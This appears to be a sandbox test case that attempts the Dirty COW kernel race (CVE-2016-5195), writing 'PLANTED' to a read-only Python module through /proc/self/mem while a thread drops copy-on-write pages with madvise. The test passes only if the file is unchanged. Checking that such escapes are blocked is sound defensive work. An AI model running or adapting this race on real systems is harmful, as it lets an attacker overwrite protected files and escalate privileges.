# tries: to change a read-only file by racing its own memory file against the dropping of private copies (CVE-2016-5195)
# must hold: the file reads as before
# needs: ctypes, mmap
import mmap, os, threading, time
before = read(os.__file__)
file = os.open(os.__file__, os.O_RDONLY)
mapped = mmap.mmap(file, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ)
import ctypes
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
where = libc.mmap(None, 4096, 1, 2, file, ctypes.c_long(0))
until = time.monotonic() + 0.3
def drop():
    while time.monotonic() < until:
        libc.madvise(ctypes.c_void_p(where), 4096, 4)
threading.Thread(target=drop).start()
memory = allowed(os.open, "/proc/self/mem", os.O_RDWR)
while memory is not None and time.monotonic() < until:
    allowed(os.pwrite, memory, b"PLANTED", where)
if read(os.__file__) != before:
    escaped("the file was changed")
